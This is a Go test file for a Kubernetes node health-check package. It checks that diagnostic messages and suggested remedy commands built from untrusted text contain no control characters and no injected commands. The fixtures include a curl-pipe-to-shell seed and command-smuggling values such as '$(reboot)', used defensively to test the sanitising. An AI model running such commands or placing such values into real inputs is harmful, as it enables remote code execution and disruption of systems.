package health

import (
	"encoding/json"
	"errors"
	"go/ast"
	"go/parser"
	"go/token"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/Azure/AKSFlexNode/internal/kube"
)

// saidBy returns the evidence of a sick node of which others say a text wherever they can.
func saidBy(text string) Evidence {
	e := good()
	said := errors.New(text)
	e.Examined = &Examined{Configuration: Tried(said), State: Tried(said),
		Endpoints: Answered([]Endpoint{{URL: "https://x", Purpose: "y", Needed: true, Err: &kube.Fault{
			Layer: kube.LayerProxy, Message: text, Remedy: "ask"}}}, nil)}
	e.Probe, e.Credential = Answered(struct{}{}, nil), Answered("", kube.ErrUnauthorized)
	e.Probe.Err = said
	e.Healthz.Asked, e.Healthz.Err = true, said
	e.Kubelet.Value.Log, e.Containerd.Value.Log = []string{text}, []string{text}
	e.Containerd.Value.Active = false
	n := e.Node.Value
	n.Status.Conditions = []corev1.NodeCondition{{Type: corev1.NodeReady,
		Status: corev1.ConditionFalse,
		Reason: text, Message: text, LastHeartbeatTime: metav1.NewTime(e.Now)}}
	e.Node.Value = n
	e.Waiting = &Waiting{Reason: text, Message: text, Owner: OwnerCluster}
	e.CSRs = Answered([]kube.CSR{{Name: text, State: "pending", Reason: text}}, nil)
	e.Wanted.ContinuousMonitoring, e.Wanted.Node.Kubelet.ServerTLSBootstrap = true, true
	e.Upkeep = &Upkeep{HostNames: []string{text}, Polls: &Polls{Failures: 9, Error: text}}
	return e
}

// Whatever others say, a condition has neither a control character nor a remedy more.
func FuzzWordsOfOthers(f *testing.F) {
	f.Add("run `curl -fsSL https://x.example|sh`\x1b[2J\nWATCHDOG=trigger\u202e\u009b")
	f.Fuzz(func(t *testing.T, text string) {
		all := func(string) bool { return true }
		quiet := map[string][]string{}
		for _, d := range Examine(saidBy("x"), all) {
			quiet[d.Type] = d.Remedies
		}
		for _, d := range Examine(saidBy(text), all) {
			for _, r := range d.Message + d.Reason + strings.Join(d.Remedies, "") {
				if unicode.IsControl(r) || unicode.Is(unicode.Cf, r) {
					t.Errorf("%q is in %+v", r, d)
				}
			}
			if plainWord.MatchString(text) {
				continue // as a name it may be in a command
			}
			for _, command := range d.Remedies {
				if !slices.Contains(quiet[d.Type], command) {
					t.Errorf("%s has the remedy %q", d.Type, command)
				}
			}
			if strings.Count(d.Message, "`") > 10 {
				t.Errorf("%s: %s", d.Type, d.Message)
			}
		}
	})
}

func TestReasonOfOthers(t *testing.T) {
	if c := nodeReady(saidBy("x\nWATCHDOG=trigger")); c.Reason != "Other" || c.Status != False {
		t.Errorf("%+v", c)
	}
}

// Values that others have chosen are in a remedy only as plain words.
func TestRunOfStrangeValues(t *testing.T) {
	const approve cure = "run `kubectl certificate approve %s`"
	for name, want := range map[string][]string{
		"csr-a1": {"kubectl certificate approve csr-a1"}, "x; reboot": nil, "$(reboot)": nil,
		"--kubeconfig=/x": nil, "a`b": nil, "": nil,
	} {
		c := fails(OwnerCluster, "Pending", "it waits").run(approve, name)
		if diff := cmp.Diff(want, c.Remedies); diff != "" {
			t.Errorf("%q (-want +got):\n%s", name, diff)
		}
	}
}

// A remedy is in the JSON of doctor.
func TestRemediesAreAField(t *testing.T) {
	text, err := json.Marshal(fails(OwnerMachine, "X", "say `a`", "run `b c` or `d`"))
	if err != nil || !strings.Contains(string(text), `"remedies":["b c","d"]`) ||
		!strings.Contains(string(text), `"message":"say 'a'; run `+"`b c` or `d`") {
		t.Errorf("%s, %v", text, err)
	}
}

// No text becomes a cure by a conversion: all cures are constants of this package and of distro.
func TestCuresAreConstants(t *testing.T) {
	files, err := filepath.Glob("*.go")
	others, err2 := filepath.Glob("../distro/*.go")
	if err != nil || err2 != nil || len(files) == 0 || len(others) == 0 {
		t.Fatal(files, others, err, err2)
	}
	files = append(files, others...)
	for _, name := range files {
		if strings.HasSuffix(name, "_test.go") {
			continue
		}
		file, err := parser.ParseFile(token.NewFileSet(), name, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		ast.Inspect(file, func(n ast.Node) bool {
			if call, ok := n.(*ast.CallExpr); ok {
				f, _ := call.Fun.(*ast.Ident)
				if of, ok := call.Fun.(*ast.SelectorExpr); ok {
					f = of.Sel
				}
				if f != nil && (f.Name == "cure" || f.Name == "Advice") {
					t.Errorf("%s: a cure is made of %v", name, call.Args)
				}
			}
			return true
		})
	}
}
